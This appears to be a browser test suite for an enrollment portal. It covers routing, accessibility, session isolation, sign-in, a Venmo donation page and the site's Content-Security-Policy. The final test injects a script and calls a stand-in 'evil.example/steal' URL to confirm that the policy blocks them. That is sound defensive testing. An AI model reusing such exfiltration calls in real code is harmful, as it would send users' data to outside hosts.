import { describe, expect, it } from 'vitest';
import axe from 'axe-core';
import { axeViolations, newPage, seededBrowser, signedIn, signInThroughForm, takePolicyViolations } from './support/browser';
import { DEMO } from '../support/fixtures';

describe('the portal on the emulators, in Chromium', () => {
  const browser = seededBrowser();

  it('loads /classes/enrollment with the open semesters and their classes, without axe violations', async () => {
    const { context, page } = await newPage(browser());
    await page.goto('/');
    await expect.poll(() => new URL(page.url()).pathname).toBe('/classes/enrollment');
    await page.getByRole('tab', { name: /Summer Camps/ }).waitFor();
    expect(await page.getByRole('heading', { name: 'Forest Explorers', exact: true }).count()).toBe(1);
    expect(await page.getByRole('link', { name: 'Register / Sign In' }).getAttribute('href')).toBe('/user/create');
    expect(await axeViolations(page)).toEqual([]);
    await context.close();
  });

  it('axe comes into a page of the portal as a script of the portal’s origin, in each new document (what the browser compiles once)', async () => {
    const { context, page } = await newPage(browser(), 360, 740);
    const loadedAxe = () => page.evaluate(() => [...document.scripts].filter((s) => s.src.includes('/assets/axe-core-')).map((s) => new URL(s.src).pathname));
    for (const path of ['/classes/enrollment', '/help']) {
      await page.goto(path);
      await page.getByRole('main').waitFor();
      expect(await axeViolations(page)).toEqual([]);
      expect(await loadedAxe()).toEqual([`/assets/axe-core-${axe.version}.min.js`]);
    }
    await context.close();
  });

  it('a page a test hands back is the next test’s again, with nothing of the first left: no session, storage, cookies, permissions, routes or listeners', async () => {
    const first = await signedIn(browser(), DEMO.family.email, DEMO.family.password, 360, 740);
    await first.page.goto('/account/enrollments');
    await first.page.getByRole('button', { name: 'Account menu' }).waitFor();
    await first.page.evaluate(async () => {
      localStorage.setItem('left', 'by the first test');
      sessionStorage.setItem('left', 'by the first test');
      document.cookie = 'left=yes; path=/';
      await caches.open('left');
    });
    await first.context.grantPermissions(['clipboard-read']);
    await first.page.route('**/logo.svg', (route) => route.abort());
    let heard = 0;
    first.page.on('request', () => void heard++);
    const other = await first.context.newPage();
    await first.context.close();

    const second = await newPage(browser(), 1280, 900);
    // The same renderer (what makes it cheap), at the size asked, alone in its context.
    expect(second.context).toBe(first.context);
    expect(second.page).toBe(first.page);
    expect(other.isClosed()).toBe(true);
    expect(second.page.viewportSize()).toEqual({ width: 1280, height: 900 });
    expect(await second.context.cookies()).toEqual([]);
    expect(await second.page.evaluate(async () => [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length, (await caches.keys()).length])).toEqual([0, 0, 0, 0]);
    expect(await second.page.evaluate(() => navigator.permissions.query({ name: 'clipboard-read' as PermissionName }).then((p) => p.state))).toBe('prompt');
    heard = 0;
    await second.page.goto('/account/enrollments');
    // Signed out (the app sends a visitor without a session to the sign-in page), the route gone, the listener deaf.
    await expect.poll(() => new URL(second.page.url()).pathname).toBe('/user/login');
    expect(await second.page.evaluate(() => fetch('/logo.svg').then((r) => r.status))).toBe(200);
    expect(heard).toBe(0);

    // A context changed in a way that cannot be undone is closed, not handed on.
    await second.context.addInitScript(() => undefined);
    await second.context.close();
    const third = await newPage(browser());
    expect(third.context).not.toBe(first.context);
    await third.context.close();
  });

  it('signs the demo family in: success toast, avatar menu, back to the landing page', async () => {
    const { context, page } = await newPage(browser());
    await signInThroughForm(page, DEMO.family.email, DEMO.family.password);
    await page.getByText('Logged in!').waitFor();
    await page.getByRole('button', { name: 'Account menu' }).click();
    await page.getByText('family@example....').waitFor();
    expect(new URL(page.url()).pathname).toBe('/classes/enrollment');
    await context.close();
  });

  it('the donation and help pages work at 360 px without axe violations', async () => {
    const { context, page } = await newPage(browser(), 360, 740);
    await page.goto('/donate-venmo');
    await page.getByLabel('Amount (US dollars)').fill('35');
    const link = page.getByRole('link', { name: 'Give $35 with Venmo' });
    expect(await link.getAttribute('href')).toBe('https://venmo.com/WildwoodOutdoorSchool?txn=pay&amount=35.00&note=Donation');
    await page.getByRole('img', { name: 'QR code to give $35 with Venmo' }).waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await page.getByRole('contentinfo').getByRole('link', { name: 'Help' }).click();
    await page.getByRole('heading', { name: 'Help for families' }).waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await context.close();
  });

  it("the page's Content-Security-Policy refuses injected script and calls to other sites, and the suite sees it", async () => {
    const { context, page } = await newPage(browser());
    await page.goto('/classes/enrollment');
    await page.getByRole('tab', { name: /Summer Camps/ }).waitFor();
    // The class list ran its own inline script (the preloaded calls were picked up) under the policy.
    expect(await page.evaluate(() => Object.keys(window.__portalPreload ?? { missing: 1 }))).toEqual([]);
    expect(takePolicyViolations()).toEqual([]);
    const outcome = await page.evaluate(async () => {
      const injected = document.createElement('script');
      injected.textContent = 'window.__injected = 1';
      document.head.append(injected);
      const sent = await fetch('https://evil.example/steal').then(() => 'sent', () => 'refused');
      return { ran: 'injected' in window ? 'ran' : 'refused', sent };
    });
    expect(outcome).toEqual({ ran: 'refused', sent: 'refused' });
    const seen: string[] = [];
    await expect.poll(() => {
      seen.push(...takePolicyViolations());
      return seen.map((v) => v.replace(/ refused .*/, '')).sort();
    }).toEqual([
      '/classes/enrollment: connect-src',
      '/classes/enrollment: script-src-elem',
    ]);
    expect(seen.find((v) => v.includes('connect-src'))).toContain('https://evil.example/steal');
    await context.close();
  });
});
